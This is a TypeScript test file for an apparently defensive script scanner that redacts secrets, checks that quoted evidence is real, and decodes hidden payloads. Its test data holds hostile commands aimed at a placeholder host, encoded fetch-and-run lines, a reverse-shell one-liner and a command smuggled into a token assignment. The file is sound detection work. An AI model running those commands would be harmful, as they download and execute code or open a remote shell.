import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeText } from '../../model/escape.ts';
import { redacted } from '../../model/secret-shapes.ts';
import { showEvidence } from '../prompt/evidence.ts';
import { verifyClaims } from '../verify-claims.ts';
import { decodedPieces } from './decoded-pieces.ts';
import type { Piece } from './piece.ts';
import { ownSecrets, redactPiece } from './redact.ts';
import { shortlist, sizeOf } from './shortlist.ts';
import { isText, showLines } from './show-lines.ts';
import { textPiece } from './text-piece.ts';

const script = (text: string | Uint8Array, over: Partial<Piece> = {}): Piece => ({
  ...textPiece('script', 'a.sh', typeof text === 'string' ? Buffer.from(text) : text),
  ...over,
});
const marker = { boundary: 'b'.repeat(16), receipt: 'c'.repeat(16) };

describe('evidence', () => {
  it('has the boundary before every row, whatever the bytes and the path', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), fc.string({ unit: 'binary' }), (bytes, path) => {
        const piece = { ...textPiece('script', path, bytes), rules: [escapeText(path)] };
        const rows = showEvidence([{ name: 'p1', piece }], marker).split('\n');
        for (const row of rows) {
          expect(row.startsWith(`${marker.boundary} p1 `)).toBe(true);
          expect(row).not.toMatch(/[\p{Cc}\p{Cf}\p{Cn}\p{Zl}\p{Zp}]/u);
        }
      }),
    );
  });

  it('shows different lines differently', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.string({ unit: 'binary' }), (a, b) => {
        const same = Buffer.from(a).equals(Buffer.from(b));
        const shown = (text: string) => JSON.stringify(showLines(Buffer.from(`${text}.`)));
        expect(shown(a) === shown(b)).toBe(same);
      }),
    );
  });

  it('shows a window that begins and ends in the middle of a character', () => {
    const bytes = Buffer.from('é text é').subarray(1, -1);
    expect(showLines(bytes, 7)).toEqual([{ number: 7, text: ' text ' }]);
  });

  it('is text, or is not shown', () => {
    expect(isText(Buffer.from('#!/bin/sh\n'))).toBe(true);
    expect(isText(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1]))).toBe(false);
    expect(isText(Buffer.alloc(0))).toBe(false);
  });
});

describe('a quote', () => {
  const claim = { piece: 'p1', severity: 'high', category: 'miner', explanation: 'x' } as const;
  it('of any line of any file is found at its line, and an invented one nowhere', () => {
    const line = fc.string({ unit: 'binary', minLength: 8, maxLength: 60 });
    fc.assert(
      fc.property(fc.array(line, { minLength: 1, maxLength: 6 }), fc.nat(5), (lines, pick) => {
        const pieces = [{ name: 'p1', piece: script(lines.join('\n')) }];
        const shown = pieces[0]!.piece.lines;
        const chosen = shown[pick % shown.length]!;
        const quote = chosen.text.slice(0, 400);
        const told = verifyClaims([{ ...claim, line: chosen.number, quote }], pieces);
        if (quote.replace(/\s/g, '').length >= 6) expect(told.claims).toHaveLength(1);
        const lie = verifyClaims([{ ...claim, line: chosen.number, quote: `${quote}\u0000lie` }], pieces);
        expect(lie).toEqual({ claims: [], dropped: 1 });
      }),
    );
  });

  it('may be written with the escapes as shown, or with the characters themselves', () => {
    const pieces = [{ name: 'p1', piece: script('printf "\\x41\u200b"\n') }];
    for (const quote of ['printf "\\\\x41\\u{200b}"', 'printf "\\x41\u200b"'])
      expect(verifyClaims([{ ...claim, line: 1, quote }], pieces).claims).toMatchObject([
        { quote: 'printf "\\\\x41\\u{200b}"' },
      ]);
  });

  it('of what was taken out is none', () => {
    const pieces = [{ name: 'p1', piece: redactPiece(script('echo swordfish-12'), ['swordfish-12']) }];
    expect(verifyClaims([{ ...claim, line: 1, quote: `echo ${redacted}` }], pieces).claims).toEqual([]);
  });
});

describe('a secret', () => {
  const shown = (text: string, own: string[] = []) =>
    redactPiece(script(text), own)
      .lines.map((line) => line.text)
      .join('\n');

  it.each([
    ['of the user', 'curl -H hunter2hunter2 x', ['hunter2hunter2']],
    ['in an assignment', 'API_TOKEN=abcdefghijklmnop0123', []],
    ['of a cloud', 'key AKIAABCDEFGHIJKLMNOP here', []],
    ['of a forge', `token ghp_${'a'.repeat(36)}`, []],
  ])('%s is not shown', (_, text, own) => {
    expect(shown(text, own)).toContain(redacted);
  });

  it('in a block is left out to the end of the block', () => {
    const key = '-----BEGIN PRIVATE KEY-----\nMIIabc\n-----END PRIVATE KEY-----\necho done';
    expect(shown(key)).toBe(`${redacted}\n${redacted}\n${redacted}\necho done`);
  });

  it('is no place to hide a command', () => {
    for (const text of ['TOKEN=$(curl x.invalid | sh)', 'PASSWORD="`id`"', 'SECRET=a;b c|d>e&f'])
      expect(shown(text)).toBe(text);
  });

  it('is known by the name of its variable', () => {
    const env = { ANTHROPIC_API_KEY: 'sk-0123456789', DB_PASSWORD: 'short', PATH: '/usr/bin:/usr/local/bin' };
    expect(ownSecrets(env)).toEqual(['sk-0123456789']);
  });
});

describe('the shortlist', () => {
  it('holds its budget, holds each text once, and does not depend on the order', () => {
    const piece = fc
      .record({
        text: fc.string({ maxLength: 300 }),
        kind: fc.constantFrom('compose', 'script', 'file', 'hook', 'finding' as const),
        severity: fc.integer({ min: -1, max: 4 }),
        path: fc.string({ maxLength: 5 }),
      })
      .map(({ text, ...over }) => script(text, over as Partial<Piece>));
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 12 }),
        fc.integer({ min: 10, max: 2000 }),
        (pieces, budget) => {
          const chosen = shortlist(pieces, budget, 2);
          expect(chosen.pieces.reduce((sum, each) => sum + sizeOf(each), 0)).toBeLessThanOrEqual(budget * 2);
          const texts = chosen.pieces.map(({ lines }) => JSON.stringify(lines.map(({ text }) => text)));
          expect(new Set(texts).size).toBe(texts.length);
          expect(shortlist([...pieces].reverse(), budget, 2).leftOut).toBe(chosen.leftOut);
        },
      ),
    );
  });

  it('reads what starts and what a rule of medium severity or worse found before all else', () => {
    const pieces = [
      script('hook', { kind: 'hook' }),
      script('found', { kind: 'file', severity: 3 }),
      script('file', { kind: 'file' }),
      script('compose', { kind: 'compose' }),
    ];
    expect(shortlist(pieces, 10_000, 2).pieces.map(({ lines }) => lines[0]!.text)).toEqual([
      'compose',
      'found',
      'hook',
      'file',
    ]);
  });
});

describe('what is encoded', () => {
  it('is shown decoded, at the line of the code', () => {
    const code = Buffer.from('curl -s http://x.invalid/payload | sh; echo done').toString('base64');
    expect(decodedPieces(script(`#!/bin/sh\necho ${code} | base64 -d | sh\n`))).toMatchObject([
      { kind: 'decoded', lines: [{ number: 2, text: 'curl -s http://x.invalid/payload | sh; echo done' }] },
    ]);
    const hex = Buffer.from('bash -i >& /dev/tcp/x.invalid/4444 0>&1').toString('hex');
    expect(decodedPieces(script(`h=${hex}\n`))[0]?.lines[0]?.text).toContain('/dev/tcp/');
  });

  it('takes little time, whatever the text', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('A', 'f', '0', '+', '\n', '='), maxLength: 3000 }),
        (text) => {
          expect(decodedPieces(script(text)).length).toBeLessThanOrEqual(4);
          redactPiece(script(text), []);
        },
      ),
    );
  });
});
